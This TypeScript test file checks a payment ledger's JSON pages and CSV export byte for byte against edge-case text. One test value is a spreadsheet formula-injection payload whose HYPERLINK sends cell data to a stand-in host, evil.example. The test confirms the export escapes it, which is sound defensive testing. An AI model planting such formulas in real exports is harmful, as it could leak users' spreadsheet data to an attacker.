import { randomUUID } from 'node:crypto';
import { openDatabase, rowsOf } from '@payrail/db';
import { aMerchant, type ServiceUnderTest, startService } from '@payrail/testing';
import { localDateTimeWithOffsetWriter } from '@payrail/time';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { movementView } from '../src/adapters/http/payment-routes';
import { CSV_HEADER, csvLine } from '../src/adapters/http/payments-csv';
import { postgresLedgerStore } from '../src/adapters/postgres/ledger-store';
import type { Movement } from '../src/domain/ledger';
import { FakeCardProcessor } from './fake-card-processor';
import { serviceWithFakes, TEST_ENV } from './support';

/**
 * The page's JSON and the export's CSV are written by PostgreSQL (ledger-store.ts), not from the rows read
 * into objects: here both are compared, byte for byte, with what `movementView`, `JSON.stringify` and
 * `csvLine` make of the same rows read through `find`, on rows holding what text can hold (quotes, commas,
 * line breaks, tabs, backslashes, control characters, non-ASCII, formula starts, empty text, nulls).
 */
let svc: ServiceUnderTest;
const merchant = aMerchant({ timezone: 'America/Asuncion' });

const AWKWARD = [
  'Plan "Gold", monthly',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  'line1\nline2',
  'line1\r\nline2',
  '\rstarts with a carriage return',
  '\tstarts with a tab',
  'inner\ttab',
  'back\\slash and /slash',
  'control \u0001\u0008\u000b\u000c\u001f\u007f',
  'Ana Gómez 😀 ünïcode, ñ',
  '',
  '-2+3',
  '+595981000111',
  '@SUM(1+1)',
  "it's",
  'line\u2028separator',
  'plain',
];

beforeAll(async () => {
  const { definition } = serviceWithFakes({ a: new FakeCardProcessor() });
  svc = await startService(definition, { env: TEST_ENV });
  const db = svc.database.db;
  for (const [index, text] of AWKWARD.entries()) {
    const other = AWKWARD[(index + 3) % AWKWARD.length] as string;
    await db.execute(sql`
      insert into processor_gateway.ledger
        (id, merchant_id, kind, status, method, processor, amount, currency, refunded_amount, card_brand,
         card_last4, processor_reference, reference, payment_id, link_id, label, subscription_id,
         installment_id, installment_number, handle_value, handle_label, custom_identifier,
         custom_identifier2, decline_code, decline_category, created_at, settled_at)
      values (${randomUUID()}::uuid, ${merchant.merchantId}::uuid, 'LINK_PAYMENT', 'succeeded', 'CARD',
        'PARAGUAY.PROCESSOR_A', ${`${index * 1000}.5`}::numeric, 'PYG', '0.25'::numeric, 'VISA', '4242',
        ${other}, ${text}, ${randomUUID()}::uuid, ${900_000_000_000 + index}, ${text}, ${700_000 + index},
        ${800_000 + index}, ${index}, ${text}, ${other}, ${text}, ${other}, ${text}, 'soft',
        timestamptz '2026-11-20T12:00:00.999999Z' + ${index} * interval '17 minutes 3.5 seconds',
        timestamptz '2026-11-20T12:00:00Z' + ${index} * interval '17 minutes')`);
  }
  // A row of nulls and one long ago (before 1990 the instants are written without the offset cache), one
  // before 1970 (negative microseconds, half a millisecond off a whole one), a negative amount and one on
  // the same instant as another (the id orders them).
  await db.execute(sql`
    insert into processor_gateway.ledger (id, merchant_id, kind, status, method, amount, currency, created_at)
    values (${randomUUID()}::uuid, ${merchant.merchantId}::uuid, 'BANK_TRANSFER', 'succeeded',
              'BANK_TRANSFER', 1, 'PYG', timestamptz '1985-06-01T03:04:05.5Z'),
           (${randomUUID()}::uuid, ${merchant.merchantId}::uuid, 'BANK_TRANSFER', 'succeeded',
              'BANK_TRANSFER', 2, 'PYG', timestamptz '1969-12-31T23:59:59.9995Z'),
           (${randomUUID()}::uuid, ${merchant.merchantId}::uuid, 'REFUND', 'failed', 'CASH', -5, 'USD',
              timestamptz '2026-11-20T12:00:00.999999Z'),
           (${randomUUID()}::uuid, ${merchant.merchantId}::uuid, 'REFUND', 'failed', 'CASH', 7, 'USD',
              timestamptz '2026-11-20T12:00:00.999999Z')`);
}, 60_000);

afterAll(async () => {
  await svc?.stop();
});

/** The merchant's movements, newest first, as `find` reads them (the objects `movementView` is given). */
async function movementsInOrder(): Promise<Movement[]> {
  const ids = rowsOf<{ id: string }>(
    await svc.database.db.execute(sql`
      select id::text from processor_gateway.ledger where merchant_id = ${merchant.merchantId}::uuid
      order by created_at desc, id desc`),
  ).map((row) => row.id);
  const store = postgresLedgerStore(svc.database.db);
  return Promise.all(ids.map(async (id) => (await store.find(merchant.merchantId, id)) as Movement));
}

describe("the ledger's text written by PostgreSQL", () => {
  it('a page is the JSON movementView and JSON.stringify write, byte for byte', async () => {
    const at = localDateTimeWithOffsetWriter(merchant.timezone);
    const movements = await movementsInOrder();
    expect(movements).toHaveLength(AWKWARD.length + 4);
    const response = await svc.request('GET', '/api/payments?limit=200', { merchant });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(await response.text()).toBe(
      JSON.stringify({ payments: movements.map((movement) => movementView(movement, at)), nextCursor: null }),
    );
    // A page with a next one: its cursor written as JSON.stringify writes it.
    const first = await svc.request('GET', '/api/payments?limit=3', { merchant });
    const text = await first.text();
    const { nextCursor } = JSON.parse(text) as { nextCursor: string };
    expect(nextCursor).toEqual(expect.any(String));
    expect(text).toBe(
      JSON.stringify({
        payments: movements.slice(0, 3).map((movement) => movementView(movement, at)),
        nextCursor,
      }),
    );
  });

  it('every page of every size, in zones with odd offsets, follows its cursors through the list, byte for byte', async () => {
    const movements = await movementsInOrder();
    const zones = ['Asia/Kathmandu', 'America/St_Johns', 'Australia/Lord_Howe', 'Pacific/Chatham', 'Etc/UTC'];
    for (const [index, timezone] of zones.entries()) {
      const at = localDateTimeWithOffsetWriter(timezone);
      const asMerchant = { ...merchant, timezone };
      // Pages of one (every cursor, the two on one instant among them), a few, all but one, exactly all.
      const limit = [1, 3, 7, movements.length - 1, movements.length][index] as number;
      let cursor: string | null = null;
      let read = 0;
      let pages = 0;
      do {
        const query: string = `limit=${limit}${cursor === null ? '' : `&cursor=${cursor}`}`;
        const response = await svc.request('GET', `/api/payments?${query}`, { merchant: asMerchant });
        expect(response.status).toBe(200);
        const text = await response.text();
        const next = (JSON.parse(text) as { nextCursor: string | null }).nextCursor;
        const expected = movements.slice(read, read + limit);
        read += expected.length;
        pages += 1;
        // A cursor exactly when more follow (none after a last page that is full).
        expect(next === null).toBe(read === movements.length);
        expect(text).toBe(
          JSON.stringify({
            payments: expected.map((movement) => movementView(movement, at)),
            nextCursor: next,
          }),
        );
        cursor = next;
      } while (cursor !== null && pages <= movements.length);
      expect(pages).toBe(Math.ceil(movements.length / limit));
    }
    // A filter that matches nothing, and one whose rows share an instant, a row a page.
    const none = await svc.request('GET', '/api/payments?status=scheduled', { merchant });
    expect(await none.text()).toBe('{"payments":[],"nextCursor":null}');
    const failed = movements.filter((movement) => movement.status === 'failed');
    expect(failed).toHaveLength(2);
    const at = localDateTimeWithOffsetWriter(merchant.timezone);
    const first = await svc.request('GET', '/api/payments?status=failed&limit=1', { merchant });
    const { nextCursor } = JSON.parse(await first.clone().text()) as { nextCursor: string };
    expect(await first.text()).toBe(
      JSON.stringify({ payments: [movementView(failed[0] as Movement, at)], nextCursor }),
    );
    const second = await svc.request('GET', `/api/payments?status=failed&limit=1&cursor=${nextCursor}`, {
      merchant,
    });
    expect(await second.text()).toBe(
      JSON.stringify({ payments: [movementView(failed[1] as Movement, at)], nextCursor: null }),
    );
  });

  it('the export is the CSV csvLine writes of each view, byte for byte', async () => {
    const at = localDateTimeWithOffsetWriter(merchant.timezone);
    const movements = await movementsInOrder();
    const response = await svc.request('GET', '/api/payments', {
      merchant,
      headers: { accept: 'text/csv' },
    });
    expect(response.status).toBe(200);
    const expected = CSV_HEADER + movements.map((movement) => csvLine(movementView(movement, at))).join('');
    expect(await response.text()).toBe(expected);
    // The guard is in it: a customer's formula is written as text.
    expect(expected).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(expected).toContain(",'+595981000111,");
  });

  it("the export's statements are prepared, their CSV cells inlined (no call per field)", async () => {
    // One connection of its own, as the service's pool has them: the statements it sends are what a batch
    // sends, the first batch (no position) and the ones after it (a position).
    const sent: string[] = [];
    const database = openDatabase({ url: svc.testDatabase.url, max: 1, onQuery: (text) => sent.push(text) });
    try {
      const store = postgresLedgerStore(database.db);
      const [first] = await store.page(merchant.merchantId, {}, undefined, 1000, 'csv');
      expect(first).toBeDefined();
      await store.page(merchant.merchantId, {}, first?.position, 1000, 'csv');
      const statements = [...new Set(sent.filter((text) => text.includes('processor_gateway.ledger')))];
      expect(statements).toHaveLength(2);
      // Prepared (kept by the connection), so parsed and planned once, not at every batch: a statement
      // over libs/db's PREPARE_UP_TO_CHARS would not be.
      const prepared = rowsOf<{ statement: string }>(
        await database.db.execute(sql`select statement from pg_prepared_statements`),
      ).map((row) => row.statement.trim());
      for (const text of statements) expect(prepared).toContain(text.trim());
      // csv_cell (migration 0009) is inlined: the plan's output is its expression, not a call of it per
      // field (a STRICT or non-immutable declaration would keep the call).
      const [firstBatch] = statements;
      await database.db.execute(sql.raw(`prepare explained_export as ${firstBatch}`));
      const plan = rowsOf<{ 'QUERY PLAN': string }>(
        await database.db.execute(
          sql.raw(`explain (verbose) execute explained_export('${merchant.merchantId}')`),
        ),
      )
        .map((row) => row['QUERY PLAN'])
        .join('\n');
      await database.db.execute(sql.raw('deallocate explained_export'));
      expect(plan).toContain('ascii(label)');
      expect(plan).not.toContain('csv_cell');
    } finally {
      await database.close();
    }
  });

  it('the codes the JSON writes only quoted cannot hold what JSON escapes (the ledger_plain_texts check)', async () => {
    const db = svc.database.db;
    const row = {
      kind: 'REFUND',
      status: 'failed',
      method: 'CASH',
      currency: 'USD',
      processor: null,
      category: null,
    };
    const insert = (values: Record<string, string | null>) =>
      db.execute(sql`
        insert into processor_gateway.ledger
          (id, merchant_id, kind, status, method, processor, amount, currency, decline_category, created_at)
        values (${randomUUID()}::uuid, ${randomUUID()}::uuid, ${values.kind}, ${values.status}, ${values.method},
          ${values.processor}, 1, ${values.currency}, ${values.category}, now())`);
    await insert(row);
    await insert({ ...row, processor: 'PARAGUAY.PROCESSOR_B', category: 'card-blocked' });
    for (const column of Object.keys(row))
      for (const awkward of ['say "no"', 'back\\slash', 'line\nbreak', 'tab\there', 'bell \u0007'])
        await expect(
          insert({ ...row, [column]: awkward }),
          `${column} ${JSON.stringify(awkward)}`,
        ).rejects.toMatchObject({
          cause: { code: '23514', constraint_name: 'ledger_plain_texts' },
        });
  });
});
